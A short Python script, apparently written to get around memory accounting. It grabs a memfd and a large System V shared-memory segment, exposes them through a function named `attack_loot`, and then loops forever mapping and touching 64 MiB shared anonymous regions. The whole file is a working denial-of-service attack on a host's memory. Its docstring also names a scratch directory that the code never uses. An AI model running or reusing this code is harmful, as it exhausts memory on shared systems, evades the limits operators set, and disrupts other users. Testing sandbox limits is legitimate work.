"""Fills memory that some limits do not count: shared maps, anonymous files, System V segments, and the scratch directory."""

import ctypes
import mmap
import os

_hoard, _libc = [], ctypes.CDLL(None)
for _take in (lambda: os.memfd_create("hoard"), lambda: _libc.shmget(0, 2**30, 0o1777)):
    try:
        if _take() >= 0:
            _hoard.append("took uncounted memory")
    except OSError:
        pass


def attack_loot():
    return _hoard


_maps = []
while True:
    _map = mmap.mmap(-1, 2**26, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for _page in range(0, 2**26, 4096):
        _map[_page] = 1
    _maps.append(_map)
